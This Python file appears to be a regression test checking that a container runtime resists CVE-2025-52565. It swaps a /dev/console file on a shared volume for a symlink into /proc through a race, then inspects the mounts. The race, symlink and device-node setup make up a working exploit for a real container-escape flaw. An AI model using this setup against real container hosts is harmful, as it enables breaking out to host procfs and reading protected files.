"""CVE-2025-52565 as a race: /dev/console on a shared volume is exchanged with a link to procfs while the terminal is bound.

The terminal lies on /dev/console and nowhere else, or the runtime refuses; nothing is made on the host."""
import os

import sandbox
from attempt import Broken, Failed

RACE = True


def attack(t):
    secret = t.secret()
    t.guard()
    volume = f"{t.dir}/volume"
    os.makedirs(volume)
    open(f"{volume}/console", "w").close()
    for name in ("pts", "shm", "mqueue"):
        os.mkdir(f"{volume}/{name}")
    for name, number in sandbox.NODES.items():
        os.mknod(f"{volume}/{name}", 0o020666, os.makedev(*number))
    os.symlink("pts/ptmx", f"{volume}/ptmx")
    t.race("console", "../proc/sys/kernel/domainname")
    os.symlink(secret, f"{volume}/second")
    bundle = t.bundle()
    bundle.without_mount("/dev")
    bundle.mounts.insert(1, {"destination": "/dev", "type": "bind", "source": volume, "options": ["rbind"]})
    bundle.process["terminal"] = True
    bundle.shell("cat /proc/self/mountinfo > /tmp/mounts; touch /tmp/ready; sleep 9")
    ran = 0
    for count in t.rounds():
        console = t.console()
        name = t.start(bundle, "--console-socket", console.path)
        t.no_crash(t.started, f"round {count}")
        if t.started.code == 0 and t.wait_for(f"{bundle.root}/tmp/ready"):
            ran += 1
            with open(f"{bundle.root}/tmp/mounts") as file:
                for line in file:
                    where = line.split()[4]
                    if " - devpts " in line and where not in ("/dev/pts", "/dev/console", "/dev/exchanged"):
                        raise Broken(f"round {count}: the terminal lies on {where}")
            os.unlink(f"{bundle.root}/tmp/ready")
        t.call("delete", "--force", name)
        t.consoles.pop().close()
        t.intact(f"round {count}")
    if not ran:
        raise Failed(f"no round ran: {t.started.message}")
    return f"{count} rounds, {count - ran} refused, the terminal on /dev/console alone"
